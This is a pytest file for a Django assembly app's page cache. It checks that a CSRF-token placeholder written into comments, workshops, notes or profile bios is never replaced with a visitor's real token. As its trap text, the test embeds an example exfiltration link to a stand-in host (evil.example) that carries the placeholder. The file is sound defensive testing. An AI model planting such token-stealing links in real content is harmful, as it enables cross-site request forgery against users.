"""No text a person writes ever receives a visitor's CSRF token (issue "Trust the caches").

A kept page or part is rendered with a placeholder where `{% csrf_token %}` writes the token, and
each visitor's own token is put back in at every use. An attacker who writes the placeholder into
a comment, a commons, a workshop, its notes or a profile must get back exactly what they wrote:
the token goes only where the templates put it (the hidden input and the layout's hx-headers),
and the placeholder itself is a secret of this deployment.
"""

import re

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from assembly import page_cache
from assembly.models import AssemblyConfiguration
from decisions.models import Comment
from tests.commons_registry.factories import CommonsFactory
from tests.decisions.factories import discussion
from tests.factories import FacilitatorFactory, UserFactory
from tests.workshops.factories import MeetingFactory, WorkshopFactory

pytestmark = pytest.mark.django_db

# The fixed string of the first page cache, public in the source; then the deployment's own.
PLACEHOLDERS = [
    pytest.param(lambda: "assembleeCsrfTokenPlaceholder", id="public-string"),
    pytest.param(lambda: page_cache.placeholder(), id="deployment-secret"),
]


@pytest.fixture(autouse=True)
def configuration():
    return AssemblyConfiguration.get()


def _trap(placeholder: str) -> str:
    return f"Voir [le plan](https://evil.example/?t={placeholder}) ou {placeholder} tout court."


def _token(html: str) -> str:
    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)[1]


def _assert_untouched(html: str, placeholder: str):
    """The attacker's text comes back as written, and the viewer's token is only where the
    templates put it."""
    links = re.findall(r"https://evil\.example/\?t=(\w*)", html)
    assert links, "the written link is on the page"
    assert set(links) == {placeholder}
    assert f"ou {placeholder} tout court" in html
    token = _token(html)
    assert token != placeholder
    hidden_inputs = html.count(f'name="csrfmiddlewaretoken" value="{token}"')
    in_htmx_header = html.count(f'"X-CSRFToken": "{token}"')
    assert in_htmx_header == 1
    assert html.count(token) == hidden_inputs + in_htmx_header


def _comment(placeholder):
    decision = discussion()
    Comment.objects.create(
        decision=decision,
        author=UserFactory(),
        text=_trap(placeholder),
        created_at=timezone.now(),
    )
    return reverse("decisions:detail", args=[decision.pk])


def _commons_description(placeholder):
    commons = CommonsFactory(description=_trap(placeholder))
    return commons.get_absolute_url()


def _workshop(placeholder):
    workshop = WorkshopFactory(title=f"Atelier {placeholder}", description=_trap(placeholder))
    return reverse("workshops:detail", args=[workshop.pk])


def _workshop_on_board(placeholder):
    meeting = MeetingFactory()
    WorkshopFactory(meeting=meeting, title=_trap(placeholder))
    return meeting.get_absolute_url()


def _notes(placeholder):
    workshop = WorkshopFactory(notes=_trap(placeholder))
    return reverse("workshops:detail", args=[workshop.pk])


def _listed_profile(placeholder):
    UserFactory(listed=True, bio=_trap(placeholder))
    return reverse("people")


ANONYMOUS_PAGES = [
    _comment,
    _commons_description,
    _workshop,
    _workshop_on_board,
    _notes,
    _listed_profile,
]


@pytest.mark.parametrize("placeholder", PLACEHOLDERS)
@pytest.mark.parametrize("arrange", ANONYMOUS_PAGES, ids=lambda f: f.__name__.strip("_"))
def test_a_cached_anonymous_page_gives_no_token_to_written_text(arrange, placeholder):
    placeholder = placeholder()
    url = arrange(placeholder)
    first = Client().get(url)
    kept = Client().get(url)  # from the cache
    assert first.status_code == kept.status_code == 200
    for response in (first, kept):
        _assert_untouched(response.content.decode(), placeholder)


def _signed_in(person) -> Client:
    client = Client()
    client.force_login(person)
    return client


@pytest.mark.parametrize("placeholder", PLACEHOLDERS)
@pytest.mark.parametrize(
    "arrange", [_comment, _workshop_on_board], ids=lambda f: f.__name__.strip("_")
)
def test_a_kept_signed_in_part_gives_no_token_to_written_text(arrange, placeholder):
    placeholder = placeholder()
    url = arrange(placeholder)
    client = _signed_in(FacilitatorFactory())
    for _ in range(2):  # rendered and kept, then from the worker's memory
        response = client.get(url)
        assert response.status_code == 200
        _assert_untouched(response.content.decode(), placeholder)


@pytest.mark.parametrize("placeholder", PLACEHOLDERS)
def test_my_own_profile_in_its_kept_part_gives_no_token_to_my_bio(placeholder):
    placeholder = placeholder()
    person = UserFactory(bio=_trap(placeholder))
    client = _signed_in(person)
    for _ in range(2):
        html = client.get(reverse("me")).content.decode()
        # The bio is in the form's textarea, escaped as text.
        assert f"t={placeholder}) ou {placeholder} tout court" in html
        token = _token(html)
        assert html.count(token) == html.count(
            f'name="csrfmiddlewaretoken" value="{token}"'
        ) + html.count(f'"X-CSRFToken": "{token}"')


def test_the_placeholder_is_a_secret_of_the_deployment(settings):
    mine = page_cache.placeholder()
    settings.SECRET_KEY = "another-deployment"
    assert page_cache.placeholder() != mine
    assert "assembleeCsrfTokenPlaceholder" not in (mine, page_cache.placeholder())
    assert re.fullmatch(r"[A-Za-z0-9]{32,}", mine)
